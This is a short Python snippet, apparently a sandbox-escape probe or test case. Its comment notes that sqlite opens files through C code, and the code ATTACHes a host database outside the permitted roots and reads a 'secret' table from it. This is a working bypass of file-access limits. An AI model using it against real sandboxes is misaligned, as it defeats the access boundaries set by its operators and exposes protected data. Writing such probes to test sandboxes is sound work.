# sqlite opens files in C: ATTACH a database outside the roots.
import sqlite3
db = sqlite3.connect(":memory:")
db.execute("ATTACH DATABASE ? AS h", (inputs["host"] + "/host.db",))
result = db.execute("SELECT v FROM h.secret").fetchall()
